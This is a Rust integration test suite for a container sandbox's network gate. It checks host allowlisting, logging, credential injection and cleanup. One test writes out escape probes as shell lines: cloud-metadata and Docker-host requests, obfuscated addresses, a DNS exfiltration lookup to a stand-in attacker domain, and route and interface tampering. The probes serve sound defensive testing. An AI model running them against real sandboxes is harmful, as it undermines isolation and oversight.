//! The network of a run on a container engine: the same rules, the same record, and no way round the door. Servers are those
//! of `tests/network/`; the engine itself has no network at all, since nothing goes by it.

use super::assert_clean;
use crate::engine::{Docked, Engine};
use crate::host::wait_for;
use crate::network::INJECTS;
use crate::output::Output;
use crate::running::Running;
use crate::world::{MANY_CONNECTIONS, SECRET, events, inside};
use serde_json::Value;
use std::process::Command;

/// What a task of the tiny image asks servers with: its `wget` cannot look up names.
const ASKING: &str = r#"
    at() { nslookup "$1" 2>/dev/null | sed -n 's/^Address: \([0-9.]*\)$/\1/p' | tail -n 1; }
    ask() { (printf 'GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' "${3:-/}" "$2"; sleep 1) | timeout 8 nc -w 5 "$1" "${4:-80}" 2>/dev/null; }
    get() { ask "$(at "$1")" "$1" "$2" | grep ' of '; }
"#;

/// A shell script in the network of the tests, with `$RUN` for `aido run` in the tiny image.
fn world(d: &Docked, script: &str) -> Option<Command> {
    let mut command = inside(&d.project, &["sh", "-c", script])?;
    d.surround(&mut command);
    let line = Docked::line(&[], &[]);
    command.env("RUN", format!("{} {}", crate::host::aido().display(), line[..line.len() - 1].join(" ")));
    Some(command)
}

/// `aido run` with these options, of a shell script.
fn run(d: &Docked, options: &str, script: &str) -> Option<Output> {
    let running = start(d, options, script)?;
    Some(running.end())
}

/// The same, not waited for.
fn start(d: &Docked, options: &str, script: &str) -> Option<Running> {
    d.project.write("task.sh", format!("{ASKING}{script}"));
    let line = format!("exec $RUN {options} -- sh task.sh");
    Some(Running::start(world(d, &line)?))
}

macro_rules! or_skipped {
    ($ran:expr) => {
        match $ran {
            Some(ran) => ran,
            None => return,
        }
    };
}

#[test]
fn a_granted_host_is_reached_by_name_and_is_on_record() {
    let engine = engine!();
    let d = engine.project(&[]);
    let script = "get web.example.com /some/path?q=secret-query; grep -c : /proc/net/dev";
    let ran = or_skipped!(run(&d, "--allow-host web.example.com", script));
    ran.ok().prints("GET /some/path?q=secret-query of web.example.com").prints("\n1\n");
    let request = &events(&d.project, "network_request")[0];
    assert_eq!((request["method"].as_str(), request["path"].as_str()), (Some("GET"), Some("/some/path")));
    assert!(!request.to_string().contains("secret-query"), "{request}");
    assert_eq!(events(&d.project, "network_dialled")[0]["address"], "93.184.215.14:80");
    let summary = d.project.summary();
    let host = &summary["network"]["hosts"][0];
    assert_eq!((host["host"].as_str(), host["connections"].as_u64()), (Some("web.example.com"), Some(1)));
    assert!(host["received"].as_u64().unwrap() > 50, "{host}");
    let network = &summary["enforced"]["network"];
    assert!(network["proof"].as_str().is_some_and(|proof| proof.contains("ECONNREFUSED")), "{network}");
    assert!(events(&d.project, "network_lost").is_empty(), "the end of a run is no loss");
    d.aido(["verify"]).ok();
    assert_clean(&engine, &d);
}

#[test]
fn nothing_but_what_was_granted_is_reached() {
    let engine = engine!();
    let d = engine.project(&[]);
    // Bare addresses, the engine's own, its service of names, what Docker Desktop calls the machine, and metadata.
    let script = r#"
        try() { ask "$@" | grep -q ' of ' && echo "REACHED $*"; }
        for to in other.example.com inner.example.com host.docker.internal gateway.docker.internal; do
            test -z "$(at $to)" || echo "REACHED the name $to"
        done
        for to in 93.184.215.14 10.0.0.1 169.254.169.254 172.17.0.1 172.17.0.2 127.0.0.11 192.168.65.254 2606:2800:21f::1 fd00:ec2::254 \
            0x5db8d70e 1572394766; do
            try $to web.example.com &
        done
        web=$(at web.example.com)
        try $web other.example.com & try $web web.example.com / 5432 & try $web web.example.com / 81 &
        try 127.0.0.1 other.example.com http://other.example.com/ 3128 & try 127.0.0.1 10.0.0.1 http://10.0.0.1/ 3128 &
        wait
        for server in 127.0.0.11 127.0.0.53 8.8.8.8 172.17.0.1; do
            timeout 5 nslookup web.example.com $server 2>/dev/null | grep -q 'Name:' && echo "REACHED names at $server"
        done
        nslookup data.in.the.name.attacker.example >/dev/null 2>&1 && echo REACHED by a name
        echo x | timeout 2 nc -u -w 1 93.184.215.14 443 2>/dev/null | grep . && echo REACHED by a datagram
        ping -c 1 -W 1 93.184.215.14 >/dev/null 2>&1 && echo REACHED by ping
        ip route del local default dev lo table local 2>/dev/null && echo REACHED the routes
        ip link set lo down 2>/dev/null && echo REACHED the interface
        ip link add other type dummy 2>/dev/null && echo REACHED another interface
        grep -h . /sys/class/net/*/address | grep -v 00:00:00:00:00:00 && echo REACHED hardware
        echo done"#;
    let ran = or_skipped!(run(&d, "--allow-host web.example.com", script));
    ran.ok().stdout("done\n");
    let dialled: Vec<String> = events(&d.project, "network_dialled").iter().map(Value::to_string).collect();
    assert!(dialled.is_empty(), "{dialled:?}");
    let refused = d.project.summary()["network"]["refused"].to_string();
    for target in
        ["other.example.com", "169.254.169.254", "172.17.0.1", "127.0.0.11", "10.0.0.1", "host.docker.internal"]
    {
        assert!(refused.contains(target), "{target} is not on record: {refused}");
    }
}

#[test]
fn the_door_has_no_powers_left_and_the_task_none_over_it() {
    let engine = engine!();
    let d = engine.project(&[]);
    let script = "grep -l door /proc/[0-9]*/cmdline; kill -9 1 2>/dev/null
        timeout 2 nc -l -p 443 2>&1 | grep -c 'in use'; sleep 4; get web.example.com";
    let running = or_skipped!(start(&d, "--allow-host web.example.com", script));
    let door = started(&d);
    let pid = engine.ask(&format!("/containers/{door}/json"))["State"]["Pid"].as_i64().expect("a process");
    let status = std::fs::read_to_string(format!("/proc/{pid}/status"));
    if let Ok(status) = status {
        for set in ["CapInh", "CapPrm", "CapEff", "CapAmb"] {
            assert!(status.contains(&format!("{set}:\t0000000000000000")), "{set}: {status}");
        }
        assert!(status.contains("NoNewPrivs:\t1"), "{status}");
    }
    let host = &engine.ask(&format!("/containers/{door}/json"))["HostConfig"];
    assert_eq!((&host["NetworkMode"], &host["Privileged"]), (&"none".into(), &false.into()), "{host}");
    let ran = running.end();
    ran.ok().stdout("1\nGET / of web.example.com\n");
    assert_clean(&engine, &d);
}

/// Waits until the last run's task is there; the name of its door's container comes back.
fn started(d: &Docked) -> String {
    wait_for("the task's start", || {
        let sandboxes = d.project.path().join(".aido/sandboxes");
        let is_there = sandboxes.is_dir() && d.project.last_sandbox().join("runs").is_dir();
        is_there
            .then(|| d.project.last_run().join("events.log"))
            .and_then(|at| std::fs::read_to_string(at).ok())
            .filter(|told| told.contains("\"type\":\"started\""))
    });
    format!("aido-{}-door", d.last())
}

#[test]
fn with_its_door_gone_a_run_has_no_network_and_says_so() {
    let engine = engine!();
    let d = engine.project(&[]);
    let script = "get web.example.com; sleep 6; get web.example.com || echo no more";
    let running = or_skipped!(start(&d, "--allow-host web.example.com", script));
    let door = started(&d);
    std::thread::sleep(std::time::Duration::from_secs(2));
    engine.post(&format!("/containers/{door}/kill"));
    let ran = running.end();
    ran.ok().prints("GET / of web.example.com").prints("no more");
    assert_eq!(events(&d.project, "network_lost").len(), 1);
    assert!(d.project.summary()["warnings"].to_string().contains("the gateway is gone"));
    assert_clean(&engine, &d);
}

#[test]
fn without_its_gateway_a_run_has_no_network() {
    let engine = engine!();
    let d = engine.project(&[]);
    let script = "get web.example.com; sleep 6; get web.example.com || echo no more";
    d.project.write("task.sh", format!("{ASKING}{script}"));
    let line = r#"$RUN --allow-host web.example.com -- sh task.sh & running=$!
        while test -z "$(pgrep -f '(^|/aido )aido-gateway$')"; do sleep 0.1; done
        while ! grep -qs '"type":"network_dialled"' .aido/sandboxes/*/runs/*/events.log .aido/runs/*/events.log; do sleep 0.1; done
        pgrep -f '(^|/aido )aido-gateway$' | xargs kill -9; wait $running; echo "aido $?"
        pgrep -f aido-gateway$ && echo LEFT; true"#;
    let ran = Running::start(or_skipped!(world(&d, line))).end();
    ran.ok().prints("GET / of web.example.com").prints("no more").prints("aido 0");
    assert!(!ran.text().contains("LEFT"), "{ran}");
    assert_eq!(events(&d.project, "network_lost").len(), 1);
    assert_clean(&engine, &d);
}

#[test]
fn the_network_ends_with_aido() {
    let engine = engine!();
    let d = engine.project(&[]);
    d.project.write("task.sh", "sleep 60");
    let line = r#"$RUN --allow-host web.example.com -- sh task.sh & running=$!
        while ! grep -qs '"type":"started"' .aido/sandboxes/*/runs/*/events.log .aido/runs/*/events.log; do sleep 0.1; done
        kill -9 $(pgrep -P $running | grep -v "^$(pgrep -f '(^|/aido )aido-gateway$')$") $running; sleep 1; pgrep -f 'aido-gateway$' && echo LEFT; true"#;
    let ran = Running::start(or_skipped!(world(&d, line))).end();
    assert!(!ran.text().contains("LEFT"), "{ran}");
    let door = format!("aido-{}-door", d.last());
    wait_for("the door's end", || {
        let told = engine.ask(&format!("/containers/json?all=1&filters={{\"name\":[\"{door}\"]}}"));
        let state = told[0]["State"].as_str().unwrap_or("gone").to_string();
        (state != "running").then_some(())
    });
    // The next command ends what is left of it.
    d.aido(["runs"]).ok();
    wait_for("the end of all of it", || engine.holds(&d.last()).is_empty().then_some(()));
}

#[test]
fn runs_side_by_side_share_no_network() {
    let engine = engine!();
    let d = engine.project(&[]);
    // What one listens to on a port of its own is nobody else's.
    let task = "(echo of a neighbour | nc -l -p 9999 >/dev/null 2>&1) & get $1; sleep 4; get web.example.com; get other.example.com
        test $1 = web.example.com || nc -w 1 $(at $1) 9999; true";
    d.project.write("task.sh", format!("{ASKING}{task}"));
    let script = r#"
        for host in web other; do
            $RUN --allow-host $host.example.com -- sh task.sh $host.example.com >$host.txt &
        done; wait; cat web.txt other.txt"#;
    let ran = Running::start(or_skipped!(world(&d, script))).end();
    let (web, other) = ("GET / of web.example.com\n", "GET / of other.example.com\n");
    ran.ok().stdout(&[web, web, other, other, "of a neighbour\n"].concat());
}

#[test]
fn many_bytes_go_both_ways_and_none_is_lost() {
    let engine = engine!();
    let yaml = "permissions:\n  network:\n    - {host: inner.example.com, ports: [5432], private: true}\n";
    let d = engine.project(&[("sandbox.yaml", yaml)]);
    // One that does not read holds nobody else up; what is sent meanwhile is more than any buffer on the way.
    let script = "head -c 30000000 /dev/urandom >/tmp/a
        to=$(at inner.example.com)
        nc $to 5432 </tmp/a | sleep 30 &
        for n in 1 2 3; do nc $to 5432 </tmp/a >/tmp/b$n & all=\"$all $!\"; done
        wait $all; for n in 1 2 3; do cmp /tmp/a /tmp/b$n && echo same; done";
    let ran = or_skipped!(run(&d, "--allow-host inner.example.com:5432", script));
    ran.ok().stdout("same\nsame\nsame\n");
    let host = &d.project.summary()["network"]["hosts"][0];
    assert!(host["received"].as_u64().unwrap() >= 90_000_000, "{host}");
}

#[test]
fn who_learns_reaches_nothing_and_knows_what_to_grant() {
    let engine = engine!();
    let d = engine.project(&[]);
    let script = "get web.example.com | grep -c .; nc -w 2 $(at other.example.com) 443 </dev/null; true";
    let ran = or_skipped!(run(&d, "--learn", script));
    ran.ok();
    assert!(ran.stdout.starts_with(b"0\n"), "{ran}");
    assert!(events(&d.project, "network_dialled").is_empty());
    let refused = d.project.summary()["network"]["refused"].to_string();
    assert!(refused.contains("{host: web.example.com, ports: [80]}"), "{refused}");
    assert!(refused.contains("{host: other.example.com, ports: [443]}"), "{refused}");
}

/// A project whose store has an image with Python, or the test is left out.
fn with_python(engine: &Engine, files: &[(&str, &str)]) -> Option<Docked> {
    if cfg!(aido_portable) {
        crate::host::left_out("this half has no store of images, and the engine only the tiny one");
        return None;
    }
    let d = engine.project(files);
    let image = format!("oci:{}/python", crate::host::images()?.display());
    d.aido(["image", "import", &image, "python:1"]).ok();
    Some(d)
}

/// The same in the image with Python.
fn python(d: &Docked, options: &str, script: &str) -> Option<Output> {
    d.project.write("task.py", script);
    let line = format!("exec $AIDO run --quiet --offline --runtime python:1 {options} -- python3 task.py");
    Some(Running::start(world(d, &line)?).end())
}

#[test]
fn a_credential_is_added_outside_and_never_comes_in() {
    let engine = engine!();
    let d = or_skipped!(with_python(&engine, &[("sandbox.yaml", INJECTS)]));
    let script = r#"
import os, urllib.request, urllib.error
print(dict(os.environ))
for method, url in [("GET", "https://web.example.com/a"), ("POST", "https://web.example.com/b"),
                    ("DELETE", "https://web.example.com/c"), ("GET", "http://inner.example.com/d")]:
    try:
        request = urllib.request.Request(url, method=method)
        print(urllib.request.urlopen(request, timeout=10).read().decode())
    except urllib.error.HTTPError as error:
        print(error.read().decode())
"#;
    let consents = "--allow-host web.example.com:443 --allow-host inner.example.com:80";
    let ran = or_skipped!(python(&d, consents, script));
    ran.ok()
        .prints("GET /a of web.example.com")
        .prints("POST /b of web.example.com")
        .prints("GET /d of inner.example.com");
    let said = ran.text();
    assert!(said.contains("Authorization: Bearer ***") || said.contains("authorization: Bearer ***"), "{said}");
    assert!(said.contains("policy refused DELETE web.example.com:443/c") && !said.contains(SECRET), "{said}");
    let found = Command::new("grep").args(["-r", "-l", SECRET, "."]).current_dir(d.project.path()).output().unwrap();
    assert!(found.stdout.is_empty(), "{}", String::from_utf8_lossy(&found.stdout));
    assert!(events(&d.project, "network_request").iter().any(|request| request["injected"] == true));
    assert_clean(&engine, &d);
}

#[test]
fn many_connections_are_bounded_and_the_run_goes_on() {
    let engine = engine!();
    let yaml = "permissions:\n  network:\n    - {host: inner.example.com, ports: [5432], private: true}\n";
    let d = or_skipped!(with_python(&engine, &[("sandbox.yaml", yaml)]));
    let ran = or_skipped!(python(&d, "--allow-host inner.example.com:5432", MANY_CONNECTIONS));
    ran.ok().prints("held True").prints("still there");
}

#[test]
fn the_images_own_bundle_trusts_the_runs_authority_too() {
    let engine = engine!();
    let d = or_skipped!(with_python(&engine, &[("sandbox.yaml", INJECTS)]));
    let root = d.project.path().join("tree");
    let tiny = crate::host::images().unwrap().join("tiny.rootfs");
    let made = Command::new("sh")
        .args(["-c", "cp -a $0 $1 && mkdir -p $1/etc/ssl/certs && cd $1/etc/ssl && echo its own >certs/ca-certificates.crt && \
            echo another >certs/other.pem && ln -s certs/ca-certificates.crt cert.pem && tar -C $1 -cf $1.tar . && rm -r $1"])
        .args([&tiny, &root])
        .output();
    assert!(made.is_ok_and(|made| made.status.success()));
    d.aido(["image", "import", "rootfs-archive:tree.tar", "bundle:1"]).ok();
    let script = "for at in /etc/aido/trust.pem /etc/ssl/certs/ca-certificates.crt /etc/ssl/cert.pem; do
            grep -c -e 'its own' -e 'BEGIN CERTIFICATE' $at; touch $at 2>/dev/null && echo WRITTEN
        done; cat /etc/ssl/certs/other.pem; echo $SSL_CERT_FILE";
    d.project.write("task.sh", script);
    let consents = "--runtime bundle:1 --allow-host web.example.com:443 --allow-host inner.example.com:80";
    let line = format!("exec $AIDO run --quiet --offline {consents} -- sh task.sh");
    let ran = Running::start(or_skipped!(world(&d, &line))).end();
    ran.ok().stdout("2\n2\n2\nanother\n/etc/aido/trust.pem\n");
    assert_clean(&engine, &d);
}
